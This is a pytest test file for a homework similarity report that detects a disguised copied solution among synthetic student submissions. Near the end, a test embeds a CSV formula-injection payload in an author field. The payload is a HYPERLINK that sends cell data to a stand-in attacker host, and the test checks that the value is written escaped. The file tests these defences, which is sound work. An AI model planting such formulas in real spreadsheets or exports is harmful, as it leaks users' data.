"""The similarity report finds a disguised copy, and not honest or starter-only students.

The class is generated here: independent solutions written differently, one disguised
copy (renamed variables, reordered functions, changed comments and layout), and students
who only lightly edited the released starter code.
"""

import csv
import subprocess
import sys
from pathlib import Path

import pytest

from autograder.hw02.similarity import COLUMNS, DEFAULT_THRESHOLD, main, similarity_report
from noisylabels.evil_twins import STUDENT_STUB

ROOT = Path(__file__).resolve().parent.parent
STARTER = (Path(__file__).resolve().parent.parent / "solutions" / "hw02_evil_twins" / "train_linear_mnist.py").read_text()

# ----------------------------------------------------------------------------- the class

HONEST_SUBSETS = '''\
"""Repeated training on random two-thirds subsets; count how often each digit is missed."""
import argparse

import torch
from torch import nn

import mnist_util


def fit_subset(X, y, keep, epochs=30, seed=0):
    # small linear model, full-batch gradient descent on the kept rows only
    torch.manual_seed(seed)
    net = nn.Linear(784, 10)
    optimizer = torch.optim.Adam(net.parameters(), lr=0.05)
    for _ in range(epochs):
        optimizer.zero_grad()
        nn.functional.cross_entropy(net(X[keep]), y[keep]).backward()
        optimizer.step()
    return net


def miss_counts(X, y, runs=25, frac=2 / 3):
    counts = torch.zeros(len(y))
    seen = torch.zeros(len(y))
    for run in range(runs):
        perm = torch.randperm(len(y))
        keep = perm[: int(frac * len(y))]
        held = perm[int(frac * len(y)):]
        net = fit_subset(X, y, keep, seed=run)
        with torch.no_grad():
            wrong = net(X[held]).argmax(dim=1) != y[held]
        counts[held] += wrong.float()
        seen[held] += 1
    return counts / seen.clamp(min=1)


def pick(rate, cutoff=0.6):
    return [int(i) for i in torch.nonzero(rate > cutoff).flatten()]


if __name__ == "__main__":
    ap = argparse.ArgumentParser()
    ap.add_argument("--data")
    ap.add_argument("--labels")
    a = ap.parse_args()
    X, y = mnist_util.as_tensors(mnist_util.read_images(a.data), mnist_util.read_labels(a.labels))
    print(", ".join(str(i) for i in pick(miss_counts(X, y))))
'''

# The same program with renamed variables, reordered functions, changed comments and layout.
DISGUISED_COPY = '''\
import argparse
import torch
from torch import nn
import mnist_util

# decide which samples look mislabeled
def choose(score, limit=0.6):
    return [int(k) for k in torch.nonzero(score > limit).flatten()]


def error_rates(images, targets, repeats=25, share=2 / 3):
    """For every sample, the fraction of held-out runs where it was misclassified."""
    errs = torch.zeros(len(targets))
    tested = torch.zeros(len(targets))
    for r in range(repeats):
        shuffled = torch.randperm(len(targets))
        train_idx = shuffled[: int(share * len(targets))]
        test_idx = shuffled[int(share * len(targets)):]
        model = train_on(images, targets, train_idx, seed=r)
        with torch.no_grad():
            bad = model(images[test_idx]).argmax(dim=1) != targets[test_idx]
        errs[test_idx] += bad.float()
        tested[test_idx] += 1
    return errs / tested.clamp(min=1)


def train_on(images, targets, subset, epochs=30, seed=0):
    """Train a linear classifier on a subset of the rows."""
    torch.manual_seed(seed)
    model = nn.Linear(784, 10)
    opt = torch.optim.Adam(model.parameters(), lr=0.05)
    for _ in range(epochs):
        opt.zero_grad()
        nn.functional.cross_entropy(model(images[subset]), targets[subset]).backward()
        opt.step()
    return model


if __name__ == "__main__":
    parser = argparse.ArgumentParser()
    parser.add_argument("--data")
    parser.add_argument("--labels")
    args = parser.parse_args()
    images, targets = mnist_util.as_tensors(mnist_util.read_images(args.data),
                                            mnist_util.read_labels(args.labels))
    print(", ".join(str(k) for k in choose(error_rates(images, targets))))
'''

HONEST_NEIGHBOURS = '''\
# Evil twins have (almost) the same pixels as another digit but a different label,
# so look for close pairs and let the other neighbours vote on which label is right.
import argparse
import numpy as np
from mnist_util import read_images, read_labels


def distances(imgs):
    flat = imgs.reshape(len(imgs), -1).astype(np.float64) / 255.0
    sq = (flat ** 2).sum(1)
    d = sq[:, None] + sq[None, :] - 2.0 * flat @ flat.T
    np.fill_diagonal(d, np.inf)
    return np.sqrt(np.maximum(d, 0.0))


def suspects(imgs, labs, k=7, close=2.5):
    d = distances(imgs)
    out = set()
    for i in range(len(labs)):
        j = int(np.argmin(d[i]))
        if d[i, j] > close or labs[i] == labs[j]:
            continue
        order = np.argsort(d[i])[1:k + 1]
        votes_i = np.sum(labs[order] == labs[i])
        votes_j = np.sum(labs[order] == labs[j])
        out.add(i if votes_i <= votes_j else j)
    return sorted(out)


def main():
    p = argparse.ArgumentParser(description="nearest-neighbour evil twin finder")
    p.add_argument("--data", required=True)
    p.add_argument("--labels", required=True)
    opts = p.parse_args()
    imgs = read_images(opts.data)
    labs = read_labels(opts.labels).astype(int)
    print(",".join(map(str, suspects(imgs, labs))))


main()
'''

HONEST_LOGREG = '''\
import argparse
import warnings

import numpy as np
from sklearn.linear_model import LogisticRegression
from sklearn.model_selection import StratifiedKFold

import mnist_util

warnings.filterwarnings("ignore")


class OutOfFoldVoter:
    """Predict every digit with models that never saw it, several times over."""

    def __init__(self, rounds=6, folds=3, C=0.5):
        self.rounds, self.folds, self.C = rounds, folds, C

    def disagreement(self, features, labels):
        tally = np.zeros(len(labels))
        for r in range(self.rounds):
            splitter = StratifiedKFold(n_splits=self.folds, shuffle=True, random_state=r)
            for fit_rows, check_rows in splitter.split(features, labels):
                clf = LogisticRegression(C=self.C, max_iter=200)
                clf.fit(features[fit_rows], labels[fit_rows])
                tally[check_rows] += clf.predict(features[check_rows]) != labels[check_rows]
        return tally / self.rounds


parser = argparse.ArgumentParser()
parser.add_argument("--data", required=True)
parser.add_argument("--labels", required=True)
ns = parser.parse_args()
features = mnist_util.read_images(ns.data).reshape(-1, 784) / 255.0
labels = mnist_util.read_labels(ns.labels)
score = OutOfFoldVoter().disagreement(features, labels)
flagged = np.flatnonzero(score >= 0.5)
print(", ".join(str(int(v)) for v in flagged))
'''

HONEST_LOSSES = '''\
"""hw02: average per-sample loss of a small MLP over several short runs."""
import argparse
import statistics

import torch
import torch.nn as nn
import torch.nn.functional as F

from mnist_util import as_tensors, read_images, read_labels

HIDDEN = 64
RUNS = 8


class Net(nn.Module):
    def __init__(self):
        super().__init__()
        self.hidden = nn.Linear(28 * 28, HIDDEN)
        self.out = nn.Linear(HIDDEN, 10)

    def forward(self, x):
        return self.out(F.relu(self.hidden(x)))


def losses_after_training(data, target, steps=150):
    net = Net()
    sgd = torch.optim.SGD(net.parameters(), lr=0.5, momentum=0.9)
    for step in range(steps):
        batch = torch.randint(0, len(data), (64,))
        sgd.zero_grad()
        F.cross_entropy(net(data[batch]), target[batch]).backward()
        sgd.step()
    with torch.no_grad():
        return F.cross_entropy(net(data), target, reduction="none")


def main(argv=None):
    cli = argparse.ArgumentParser()
    cli.add_argument("--data", required=True)
    cli.add_argument("--labels", required=True)
    opt = cli.parse_args(argv)
    data, target = as_tensors(read_images(opt.data), read_labels(opt.labels))
    total = sum(losses_after_training(data, target) for _ in range(RUNS)) / RUNS
    values = total.tolist()
    mean, spread = statistics.mean(values), statistics.pstdev(values)
    chosen = [i for i, v in enumerate(values) if v > mean + 2 * spread]
    print(", ".join(str(i) for i in chosen))


if __name__ == "__main__":
    main()
'''


def author_block(name, netid, aid):
    return f"# Author: {name}\n# Netid: {netid}\n# Aid: {aid}\n"


def filled_stub(name, netid):
    """The released stub with its author block filled in."""
    return author_block(name, netid, "none") + "".join(STUDENT_STUB.splitlines(keepends=True)[3:])


def stub_with_starter_pasted(name, netid, body):
    """The stub with train() and failures() of train_linear_mnist.py pasted in and a new body."""
    functions = STARTER[STARTER.index("def train("):STARTER.index("def main():")]
    source = filled_stub(name, netid).replace(
        "import mnist_util\n", "import torch\nfrom torch import nn\n\nimport mnist_util\n\n\n" + functions)
    todo = "    # YOUR CODE HERE: train, look at what the network gets wrong, combine runs.\n    return []\n"
    assert todo in source, "the stub changed: update this test's starter-only students"
    return source.replace(todo, body)


def starter_as_hw02(name, netid):
    """train_linear_mnist.py renamed to hw02.py: fewer epochs, prints the failures only."""
    source = STARTER.replace("default=100", "default=20")
    source = source[:source.index("    correct = len(y)")]
    source += '    print(", ".join(str(i) for i in wrong))\n\n\nif __name__ == "__main__":\n    main()\n'
    return author_block(name, netid, "the course's train_linear_mnist.py") + source


HONEST = {
    "ada": author_block("Ada", "ad1", "lecture 3 notes") + HONEST_SUBSETS,
    "cy": HONEST_NEIGHBOURS,  # no author block at all
    "dee": author_block("Dee", "de4", "scikit-learn docs") + HONEST_LOGREG,
    "eve": author_block("Eve", "ev5", "none") + HONEST_LOSSES,
}
COPIER = {"bob": author_block("Bob", "bo2", "none") + DISGUISED_COPY}
STARTER_ONLY = {
    "sam": filled_stub("Sam", "sa6"),
    "rita": starter_as_hw02("Rita", "ri7"),
    "pat": stub_with_starter_pasted("Pat", "pa8", (
        "    X, y = mnist_util.as_tensors(images, labels)\n"
        "    model = train(X, y, num_epochs=50)\n"
        "    return failures(model, X, y)\n")),
    "ron": stub_with_starter_pasted("Ron", "ro9", (
        "    X, y = mnist_util.as_tensors(images, labels)\n"
        "    counts = {}\n"
        "    for run in range(5):\n"
        "        model = train(X, y, num_epochs=30, seed=run)\n"
        "        for i in failures(model, X, y):\n"
        "            counts[i] = counts.get(i, 0) + 1\n"
        "    return sorted(i for i, c in counts.items() if c >= 3)\n")),
}
CLASS = {**HONEST, **COPIER, **STARTER_ONLY}


def write_class(folder, programs):
    for student, source in programs.items():
        (folder / student).mkdir(parents=True)
        path = folder / student / "hw02.py"
        path.write_bytes(source) if isinstance(source, bytes) else path.write_text(source)
    return folder


def pairs(rows):
    return {frozenset((r["student_a"], r["student_b"])) for r in rows}


@pytest.fixture(scope="module")
def report(tmp_path_factory):
    folder = tmp_path_factory.mktemp("similarity")
    write_class(folder / "submissions", CLASS)
    messages = []
    rows = similarity_report(folder / "submissions", folder / "similarity.csv",
                             html=folder / "similarity.html", log=messages.append)
    return folder, rows, messages


# ----------------------------------------------------------------------------- tests
def test_the_generated_programs_are_valid_python():
    for student, source in CLASS.items():
        compile(source, student, "exec")


def test_the_disguised_copy_is_the_top_pair_well_above_the_threshold(report):
    _, rows, _ = report
    assert rows, "nothing flagged"
    assert {rows[0]["student_a"], rows[0]["student_b"]} == {"ada", "bob"}
    assert rows[0]["similarity"] >= max(DEFAULT_THRESHOLD, 0.75)


def test_independent_honest_solutions_are_not_flagged(report):
    _, rows, _ = report
    flagged = pairs(rows) - {frozenset(("ada", "bob"))}
    assert not [p for p in flagged if p & set(HONEST)], flagged


def test_students_who_only_started_from_the_starter_code_are_not_flagged(report):
    _, rows, _ = report
    assert not [p for p in pairs(rows) if p & set(STARTER_ONLY)], rows


def test_without_the_starter_code_subtracted_the_starter_only_students_would_match(tmp_path):
    write_class(tmp_path / "subs", STARTER_ONLY)
    rows = similarity_report(tmp_path / "subs", tmp_path / "s.csv", default_boilerplate_files=False,
                             log=lambda m: None)
    assert len(rows) >= 3  # the subtraction above is what keeps them apart


def test_the_csv_has_the_columns_most_similar_first_and_the_aids(report):
    folder, rows, _ = report
    with open(folder / "similarity.csv", newline="") as fh:
        reader = csv.DictReader(fh)
        assert reader.fieldnames == COLUMNS
        written = list(reader)
    assert [r["student_a"] for r in written] == [r["student_a"] for r in rows]
    scores = [float(r["similarity"]) for r in written]
    assert scores == sorted(scores, reverse=True) and all(s >= DEFAULT_THRESHOLD for s in scores)
    top = written[0]
    assert (top["student_a"], top["aid_a"], top["student_b"], top["aid_b"]) == ("ada", "lecture 3 notes", "bob", "none")


def test_the_html_shows_both_students_side_by_side_with_matches_highlighted(report):
    folder, _, _ = report
    page = (folder / "similarity.html").read_text()
    pair = page[page.index("id='pair1'"):]
    assert "<h3>ada</h3>" in pair and "<h3>bob</h3>" in pair
    assert pair.count("<mark>") >= 4
    assert "error_rates" in pair and "miss_counts" in pair  # both programs, as written
    assert "cdn." not in page  # readable offline


def test_a_student_without_an_author_block_has_an_empty_aid(tmp_path):
    write_class(tmp_path / "subs", {"cy": HONEST_NEIGHBOURS, "cy_copy": HONEST_NEIGHBOURS})
    rows = similarity_report(tmp_path / "subs", tmp_path / "s.csv", log=lambda m: None)
    assert rows == [{"student_a": "cy", "student_b": "cy_copy", "similarity": 1.0, "aid_a": "", "aid_b": ""}]


def test_bad_submissions_get_a_message_and_the_other_pairs_are_still_reported(tmp_path):
    latin1_copy = ("# Author: Zoé\n# Netid: zo1\n# Aid: none\n" + DISGUISED_COPY).encode("latin-1")
    write_class(tmp_path / "subs", {
        "ada": HONEST["ada"], "bob": COPIER["bob"], "zoe": latin1_copy,
        "bin": b"\x7fELF\x02\x01\x01\x00" + bytes(range(256)),
        "syntax": HONEST_LOGREG.replace("def disagreement(self,", "def disagreement(self"),
    })
    (tmp_path / "subs" / "nobody").mkdir()
    messages = []
    rows = similarity_report(tmp_path / "subs", tmp_path / "s.csv", html=tmp_path / "s.html",
                             log=messages.append)
    text = "\n".join(messages)
    assert "bin: hw02.py binary file" in text
    assert "zoe: hw02.py not UTF-8" in text
    assert "nobody: no hw02.py" in text
    found = pairs(rows)
    assert {frozenset(("ada", "bob")), frozenset(("ada", "zoe")), frozenset(("bob", "zoe"))} <= found
    assert not [p for p in found if "syntax" in p or "bin" in p]
    assert "nobody: no hw02.py" in (tmp_path / "s.html").read_text()


def test_links_and_fifos_in_place_of_a_program_are_never_followed_or_read(tmp_path):
    import os
    secret = tmp_path / "instructor" / "key.txt"
    secret.parent.mkdir()
    secret.write_text(HONEST["ada"])  # a program-like secret: followed, it would be compared and shown
    subs = tmp_path / "subs"
    write_class(subs, {"ada": HONEST["ada"], "bob": COPIER["bob"]})
    (subs / "linked").mkdir()
    (subs / "linked" / "hw02.py").symlink_to(secret)
    (subs / "fifo").mkdir()
    os.mkfifo(subs / "fifo" / "hw02.py")  # read, it would block the report for the class
    (subs / "folder_link").symlink_to(subs / "ada")
    (subs / "nb").mkdir()
    (subs / "nb" / "hw02_evil_twins").symlink_to(subs / "ada")
    messages = []
    rows = similarity_report(subs, tmp_path / "s.csv", html=tmp_path / "s.html", log=messages.append)
    text = "\n".join(messages)
    assert "linked: hw02.py refused (hw02.py is a symbolic link" in text
    assert "fifo: hw02.py refused (hw02.py is a named pipe" in text
    assert "folder_link: folder_link is a symbolic link: skipped" in text
    assert "nb: nb/hw02_evil_twins is a symbolic link: skipped" in text
    assert pairs(rows) == {frozenset(("ada", "bob"))}
    assert not [r for r in rows if {"linked", "fifo", "folder_link", "nb"} & {r["student_a"], r["student_b"]}]


def test_an_empty_folder_writes_a_csv_with_the_header_only_and_says_so(tmp_path):
    (tmp_path / "subs").mkdir()
    messages = []
    assert similarity_report(tmp_path / "subs", tmp_path / "s.csv", log=messages.append) == []
    assert (tmp_path / "s.csv").read_text().strip() == ",".join(COLUMNS)
    assert any("no hw02.py to compare" in m for m in messages)


def test_nbgraders_submitted_layout_is_found(tmp_path):
    for student in ("ada", "bob"):
        folder = tmp_path / "submitted" / student / "hw02_evil_twins"
        folder.mkdir(parents=True)
        (folder / "hw02.py").write_text(CLASS[student])
    rows = similarity_report(tmp_path / "submitted", tmp_path / "s.csv", log=lambda m: None)
    assert pairs(rows) == {frozenset(("ada", "bob"))}


def test_the_command_line_reads_nbgraders_submitted_folder(tmp_path):
    """``python -m autograder.hw02.similarity submitted/`` after ``nbgrader collect``, as the README says."""
    course = tmp_path / "course"
    release = Path(__file__).resolve().parent.parent / "solutions" / "hw02_evil_twins"
    for student in ("ada", "bob", "eve", "cy"):
        folder = course / "submitted" / student / "hw02_evil_twins"
        folder.mkdir(parents=True)
        (folder / "hw02_evil_twins.ipynb").write_text("{}")
        (folder / "timestamp.txt").write_text("2026-11-30 01:00:00.000000 UTC")
        for name in ("mnist_util.py", "train_linear_mnist.py"):  # the release's files, handed back
            (folder / name).write_text((release / name).read_text())
        if student != "cy":  # cy handed in the notebook only
            (folder / "hw02.py").write_text(CLASS[student])
    other = course / "submitted" / "dan" / "hw01_label_corruption"  # another homework only
    other.mkdir(parents=True)
    (other / "hw01_label_corruption.ipynb").write_text("{}")
    run = subprocess.run([sys.executable, "-m", "autograder.hw02.similarity", str(course / "submitted"),
                          "--out", str(course / "similarity.csv"), "--html", str(course / "similarity.html")],
                         cwd=ROOT, capture_output=True, text=True, timeout=300)
    assert run.returncode == 0, run.stderr
    assert "cy: no hw02.py: skipped" in run.stdout and "dan: no hw02.py: skipped" in run.stdout
    assert "similarity: 3 programs, 1 pairs" in run.stdout
    with open(course / "similarity.csv", newline="") as fh:
        written = list(csv.DictReader(fh))
    assert [(r["student_a"], r["student_b"], r["aid_a"], r["aid_b"]) for r in written] == [
        ("ada", "bob", "lecture 3 notes", "none")]
    page = (course / "similarity.html").read_text()
    assert "<h3>ada</h3>" in page and "<h3>bob</h3>" in page and "cy: no hw02.py" in page


def test_extra_boilerplate_is_subtracted_too(tmp_path):
    write_class(tmp_path / "subs", {"ada": CLASS["ada"], "bob": CLASS["bob"]})
    (tmp_path / "handout.py").write_text(HONEST_SUBSETS)
    rows = similarity_report(tmp_path / "subs", tmp_path / "s.csv", boilerplate=[tmp_path / "handout.py"],
                             log=lambda m: None)
    assert rows == []


def test_bad_arguments_are_refused_with_clear_errors(tmp_path):
    (tmp_path / "subs").mkdir()
    with pytest.raises(NotADirectoryError, match="does not exist"):
        similarity_report(tmp_path / "nowhere", tmp_path / "s.csv")
    with pytest.raises(ValueError, match="threshold"):
        similarity_report(tmp_path / "subs", tmp_path / "s.csv", threshold=1.5)
    with pytest.raises(FileNotFoundError, match="boilerplate"):
        similarity_report(tmp_path / "subs", tmp_path / "s.csv", boilerplate=[tmp_path / "missing.py"])


def test_the_command_line_writes_the_csv_and_html_and_fails_cleanly(tmp_path, capsys):
    write_class(tmp_path / "subs", {"ada": CLASS["ada"], "bob": CLASS["bob"], "eve": CLASS["eve"]})
    assert main([str(tmp_path / "subs"), "--out", str(tmp_path / "s.csv"),
                 "--html", str(tmp_path / "s.html"), "--threshold", "0.4"]) == 0
    assert "ada" in capsys.readouterr().out
    assert len((tmp_path / "s.csv").read_text().splitlines()) == 2
    assert (tmp_path / "s.html").exists()
    assert main([str(tmp_path / "nowhere"), "--out", str(tmp_path / "t.csv")]) == 2
    assert "error:" in capsys.readouterr().err


# ----------------------------------------------------------------------------- published code, CSV safety
def test_a_disguised_copy_of_the_published_reference_is_reported_against_it(tmp_path):
    reference = (ROOT / "solutions" / "hw02_evil_twins" / "hw02.py").read_text()
    disguised = ("# Author: Pat Copy\n# Netid: pc1\n# Aid: none\n"
                 + reference.split('"""', 2)[2].replace("groups", "clusters").replace("flagged", "suspects"))
    write_class(tmp_path / "subs", {"pat": disguised, "ada": HONEST["ada"]})
    rows = similarity_report(tmp_path / "subs", tmp_path / "s.csv", log=lambda m: None)
    assert rows and rows[0]["student_a"] == "pat"
    assert rows[0]["student_b"] == "published: solutions/hw02_evil_twins/hw02.py"
    assert rows[0]["similarity"] >= 0.9
    assert not [r for r in rows if "ada" in (r["student_a"], r["student_b"])]
    with open(tmp_path / "s.csv", newline="") as fh:
        assert next(csv.DictReader(fh))["student_b"] == "published: solutions/hw02_evil_twins/hw02.py"


def test_a_formula_in_an_aid_is_written_as_text(tmp_path):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"notes")'
    program = "import os\n" + HONEST_NEIGHBOURS
    write_class(tmp_path / "subs", {
        "eve": f"# Author: Eve\n# Netid: ev1\n# Aid: {formula}\n" + program,
        "-mal": "# Author: Mal\n# Netid: ma1\n# Aid: @SUM(1+1)\n" + program,
    })
    similarity_report(tmp_path / "subs", tmp_path / "s.csv", log=lambda m: None)
    with open(tmp_path / "s.csv", newline="") as fh:
        row = next(csv.DictReader(fh))
    cells = {row["student_a"]: row["aid_a"], row["student_b"]: row["aid_b"]}
    assert cells == {"'-mal": "'@SUM(1+1)", "eve": "'" + formula}


@pytest.mark.parametrize("value, written", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-2", "'-2"), ("@A1", "'@A1"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("lecture 3 notes", "lecture 3 notes"), ("a=b", "a=b"), ("", ""), (0.5, "0.5")])
def test_csv_safe_prefixes_only_cells_a_spreadsheet_reads_as_formulas(value, written):
    from autograder.hw02.csv_safe import csv_safe

    assert csv_safe(value) == written
